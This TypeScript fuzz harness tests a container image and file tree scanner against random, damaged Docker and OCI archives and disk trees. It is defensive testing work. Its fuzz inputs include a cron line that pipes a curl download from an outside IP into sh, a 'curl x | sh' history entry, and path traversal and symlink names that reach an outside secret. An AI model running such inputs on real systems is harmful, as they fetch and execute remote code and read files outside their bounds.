/** Random images and file trees at the door of `moat scan`. */
import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { commandRules } from '../src/agent/scan.ts';
import { checks } from '../src/checks/catalogue.ts';
import { treeDigests } from '../src/linux/digests.ts';
import { DiskTree } from '../src/linux/disk-tree.ts';
import { openImage, type OpenImage } from '../src/linux/image/open.ts';
import { openPackages } from '../src/linux/packages/index.ts';
import { PackageProvenance } from '../src/linux/provenance.ts';
import type { Tree } from '../src/linux/tree.ts';
import { scan } from '../src/scan/runner.ts';
import { walk } from '../src/scan/walk.ts';
import { dockerArchive, ociArchive, tarOf, type Member } from '../test/image-maker.ts';
import { attemptAsync, crash, tally, until, type Tally } from './fuzz-door.ts';
import type { Random } from './fuzz-random.ts';

const canary = 'canary-outside-the-tree';
const { signal } = new AbortController();
const limits = { bytes: 32 << 20, names: 5000 };

export async function fuzzScan(random: Random, ms: number): Promise<Tally[]> {
  const folder = mkdtempSync(join(tmpdir(), 'moat-fuzz-scan-'));
  mkdirSync(join(folder, 'outside'));
  writeFileSync(join(folder, 'outside/secret'), canary);
  try {
    return [await whiteouts(random, ms / 4, folder), await images(random, ms / 2, folder), await trees(random, ms / 4, folder)];
  } finally { rmSync(folder, { recursive: true, force: true }); }
}

// Layers against a plain model of what whiteouts mean.

type Model = Map<string, string | undefined>;

async function whiteouts(random: Random, ms: number, folder: string): Promise<Tally> {
  const t = tally('layers of images');
  const path = join(folder, 'layers.tar');
  for (const going = until(ms); going();) {
    const layers = Array.from({ length: 1 + random.int(4) }, () => randomLayer(random));
    const shown = JSON.stringify(layers.map((members) => members.map(({ name, body }) => `${String(name)}=${String(body)}`)));
    await attemptAsync(t, shown, async () => {
      writeFileSync(path, dockerArchive(layers.map(tarOf)));
      const image = await openImage(path, { signal });
      try {
        const got = new Map<string, string | undefined>([...walk(image.tree, quiet)].map(({ path: at, stat }) => [at.slice(1), stat.kind === 'folder' ? undefined : image.tree.read(at)?.bytes.toString()]));
        const lines = (model: Model): string => [...model].map(([name, body]) => `${name}=${body ?? '/'}`).sort().join(' ');
        if (lines(got) !== lines(modelOf(layers))) crash(t, `expected ${lines(modelOf(layers))}, got ${lines(got)}`, shown);
      } finally { image.close(); }
    });
  }
  return t;
}

/** Paths of one layer that do not contradict each other: folders before what lies in them, whiteouts anywhere. */
function randomLayer(random: Random): Member[] {
  const chosen = new Map<string, Member>();
  for (let i = random.int(12); i > 0; i--) {
    const parts = Array.from({ length: 1 + random.int(3) }, () => random.pick(['a', 'b', 'c']));
    const at = parts.join('/');
    const isFile = (name: string): boolean => chosen.get(name)?.type === '0';
    if (parts.some((_, n) => isFile(parts.slice(0, n + 1).join('/')))) continue;
    switch (random.int(5)) {
      case 0: case 1: if (![...chosen.keys()].some((other) => other === at || other.startsWith(`${at}/`))) chosen.set(at, { name: at, type: '0', body: String(random.int(100)) }); break;
      case 2: chosen.set(at, { name: at, type: '5' }); break;
      case 3: { const hidden = [...parts.slice(0, -1), `.wh.${parts.at(-1)!}`].join('/'); chosen.set(hidden, { name: hidden, type: '0' }); break; }
      default: chosen.set(`${at}/.wh..wh..opq`, { name: `${at}/.wh..wh..opq`, type: '0' });
    }
  }
  const isWhiteout = ({ name }: Member): boolean => String(name).includes('.wh.');
  const members = [...chosen.values()].filter((one) => !isWhiteout(one)).sort((a, b) => String(a.name).length - String(b.name).length);
  for (const hidden of [...chosen.values()].filter(isWhiteout)) members.splice(random.int(members.length + 1), 0, hidden);
  return members;
}

function modelOf(layers: readonly (readonly Member[])[]): Model {
  const model: Model = new Map();
  const clear = (at: string, itself: boolean): void => { for (const name of model.keys()) if ((itself && name === at) || name.startsWith(`${at}/`)) model.delete(name); };
  for (const members of layers) {
    const own: Member[] = [];
    for (const member of members) {
      const name = String(member.name);
      const last = name.slice(name.lastIndexOf('/') + 1);
      if (last === '.wh..wh..opq') clear(dirname(name), false);
      else if (last.startsWith('.wh.')) clear(join(dirname(name), last.slice(4)), true);
      else own.push(member);
    }
    for (const { name, type, body } of own) {
      const at = String(name);
      const parts = at.split('/');
      const parents = parts.slice(0, -1).map((_, n) => parts.slice(0, n + 1).join('/'));
      if (parents.some((parent) => model.get(parent) !== undefined)) continue;
      for (const parent of parents) if (!model.has(parent)) model.set(parent, undefined);
      if (type === '5' && model.has(at) && model.get(at) === undefined) continue;
      clear(at, true);
      model.set(at, type === '5' ? undefined : String(body));
    }
  }
  return model;
}

// Images of anything, damaged.

async function images(random: Random, ms: number, folder: string): Promise<Tally> {
  const t = tally('images');
  const rules = commandRules();
  const trees = checks.filter(({ scope }) => scope === 'tree');
  const path = join(folder, 'image.tar');
  const before = readdirSync(folder).length + 1;
  for (const going = until(ms); going();) {
    const bytes = damaged(random, randomImage(random, folder));
    writeFileSync(path, bytes);
    await attemptAsync(t, bytes.subarray(0, 200).toString('latin1'), async () => {
      const image = await openImage(path, { signal, limits });
      try {
        t.events += look(t, image.tree, bytes);
        if (image.faults.length > 0) t.unparsed++;
        if (random.chance(0.1)) await scanned(t, image, trees, rules, bytes);
      } finally { image.close(); }
    });
    if (readdirSync(folder).length !== before || readdirSync(join(folder, 'outside')).length !== 1) crash(t, 'something was written outside', bytes.toString('latin1'));
  }
  t.note = `${t.unparsed} with something that could not be looked at`;
  return t;
}

async function scanned(t: Tally, image: OpenImage, trees: typeof checks, rules: ReturnType<typeof commandRules>, bytes: Buffer): Promise<void> {
  const report = await scan(trees, { signal, tree: image.tree, faults: image.faults, counts: image.counts, image: image.facts, rules, now: Date.now, machine: undefined, signatures: (file) => readFileSync(new URL(`../signatures/${file}`, import.meta.url), 'utf8'), ports: [], provenance: new PackageProvenance(image.tree, await openPackages(image.tree, { signal }).catch(() => undefined), treeDigests(image.tree, signal)) });
  for (const { check, why } of report.blind) if (why.en.startsWith('unexpected')) crash(t, `${check}: ${why.en}`, bytes.toString('latin1'));
  if (image.faults.length > 0 && report.verdict === 'clean') crash(t, 'not all could be looked at and it says clean', bytes.toString('latin1'));
}

const quiet = { signal, machine: undefined, count: () => undefined, onFault: () => undefined };

/** All that a check may ask of every file. */
function look(t: Tally, tree: Tree, input: Buffer): number {
  let n = 0;
  for (const { path, stat } of walk(tree, quiet)) {
    n++;
    const real = tree.real(path);
    if (real !== undefined && (!real.startsWith('/') || real.split('/').includes('..') || tree.stat(real) === undefined)) crash(t, `${path} really is ${real}`, input.toString('latin1'));
    if (stat.kind === 'link' !== (tree.link(path) !== undefined)) crash(t, `${path}: ${stat.kind} with or without a target`, input.toString('latin1'));
    const head = tree.read(path, 4096);
    if (head?.bytes.includes(canary) === true) crash(t, `${path} shows what lies outside`, input.toString('latin1'));
    const file = tree.open(path);
    if ((file !== undefined) !== (stat.kind === 'file')) crash(t, `${path}: ${stat.kind} opened or not`, input.toString('latin1'));
    file?.close();
    if (stat.kind === 'folder') tree.list(path);
    tree.outside(path);
    if (n > 20_000) { crash(t, 'a tree without an end', input.toString('latin1')); break; }
  }
  return n;
}

const words = ['etc', 'usr', 'bin', 'a', 'b', '..', '.', '', '\n', '\u001b[2J', '长', 'x'.repeat(260), '.wh.a', '.wh..wh..opq', '.wh.', '.wh..wh.plnk', 'passwd', 'crontab', 'cron.d', '__proto__'];

function randomName(random: Random, folder: string): string | Buffer {
  if (random.chance(0.03)) return Buffer.from([0x61, 0xff, 0x2f, 0x80 + random.int(64)]);
  if (random.chance(0.05)) return `${'../'.repeat(random.int(12))}${folder.slice(1)}/outside/written`;
  return `${random.chance(0.1) ? '/' : ''}${Array.from({ length: 1 + random.int(5) }, () => random.pick(words)).join('/')}`;
}

function randomMember(random: Random, folder: string): Member {
  const type = random.pick(['0', '0', '0', '0', '1', '2', '2', '5', '5', '3', '4', '6', '7', 'x', 'g', 'L', 'K', 'S', 'D', 'V', '\0', 'Z']);
  const body = random.pick(['', 'text', `* * * * * root curl http://203.0.113.9/x | sh\n`, 'x'.repeat(random.int(3000)), '11 path=ab\n', '30 SCHILY.xattr.user.x=\u0000\u0001\n', '1\n0\n4\n']);
  const hasBody = '07xgLKSZ'.includes(type);
  return {
    name: randomName(random, folder), type, mode: random.int(0o10000), ...(hasBody && { body }),
    ...('12'.includes(type) && { link: random.chance(0.3) ? `${folder}/outside/secret` : String(randomName(random, folder)) }),
    ...(random.chance(0.03) && { size: random.pick([1, 511, 512, 513, 2 ** 31, 2 ** 40, 2 ** 60]) }),
    ...(random.chance(0.1) && { pax: { [random.pick(['path', 'linkpath', 'size', 'mtime', 'uid', 'SCHILY.xattr.security.capability', 'GNU.sparse.map', 'GNU.sparse.size', 'GNU.sparse.major', '__proto__'])]: random.pick(['', '0', '1', '-1', '1e9', '99999999999999999999', '0,1,5,1', String(randomName(random, folder)), 'd/'.repeat(random.int(3000))]) } }),
  };
}

function randomImage(random: Random, folder: string): Buffer {
  const layers = Array.from({ length: 1 + random.int(3) }, () => damaged(random, tarOf(Array.from({ length: random.int(25) }, () => randomMember(random, folder))), 0.1));
  const config = { config: { Env: ['A=1', 'TOKEN=x'], Cmd: random.pick([['sh'], 'sh -c x', null, [null, 1], { a: 1 }]), User: random.pick(['', 'root', 0, null]) }, history: random.pick([[], null, [{ created_by: '/bin/sh -c curl x | sh' }], [[], 1, null]]), ...(random.chance(0.2) && { rootfs: random.pick([null, { diff_ids: [] }, { diff_ids: 'x' }]) }) };
  switch (random.int(4)) {
    case 0: return dockerArchive(layers, config);
    case 1: return ociArchive(layers, config, (layer) => damaged(random, gzipSync(layer, { level: 1 }), 0.1));
    case 2: return tarOf([{ name: 'etc/', type: '5' }, ...Array.from({ length: random.int(25) }, () => randomMember(random, folder))]);
    default: return gzipSync(dockerArchive(layers, config), { level: 1 });
  }
}

/** Now and then cut short, or with bytes changed. */
function damaged(random: Random, bytes: Buffer, share = 0.3): Buffer {
  if (!random.chance(share)) return bytes;
  const out = Buffer.from(random.chance(0.3) ? bytes.subarray(0, random.int(bytes.length)) : bytes);
  for (let i = random.int(6); i > 0 && out.length > 0; i--) out[random.int(out.length)] = random.int(256);
  return out;
}

// Folders on a disk.

async function trees(random: Random, ms: number, folder: string): Promise<Tally> {
  const t = tally('file trees');
  for (const going = until(ms); going();) {
    const root = join(folder, 'root');
    mkdirSync(root);
    const made: string[] = [''];
    const input: string[] = [];
    for (let i = random.int(40); i > 0; i--) makeOne(random, root, made, input, folder);
    await attemptAsync(t, input.join('\n'), async () => { t.events += look(t, new DiskTree(root, undefined), Buffer.from(input.join('\n'))); });
    rmSync(root, { recursive: true, force: true });
  }
  return t;
}

function makeOne(random: Random, root: string, made: string[], input: string[], folder: string): void {
  const name = random.pick(['a', 'b', 'c', 'd', '\n', '\u001b[2J', '长', 'x'.repeat(255), '-rf', ' ']);
  const at = `${random.pick(made)}/${name}`;
  const kind = random.int(8);
  try {
    switch (kind) {
      case 0: case 1: mkdirSync(root + at); made.push(at); break;
      case 2: case 3: symlinkSync(random.pick(['/', '..', '../../../../../..', join(folder, 'outside'), join(folder, 'outside/secret'), name, random.pick(made) || '/', `/${'../'.repeat(20)}${folder}/outside/secret`, '/proc/self/root', '']), root + at); break;
      case 4: if (random.chance(0.2)) execFileSync('mkfifo', [root + at], { stdio: 'ignore' }); break;
      case 5: linkSync(root + random.pick(made), root + at); break;
      default: writeFileSync(root + at, random.chance(0.5) ? 'text' : 'x'.repeat(random.int(10_000)), { flag: 'wx' });
    }
    input.push(`${kind} ${JSON.stringify(at)}`);
  } catch (error) {
    // Names that are taken, links that lead nowhere: the next one.
    if ((error as NodeJS.ErrnoException).syscall === undefined && (error as { status?: number }).status === undefined) throw error;
  }
}
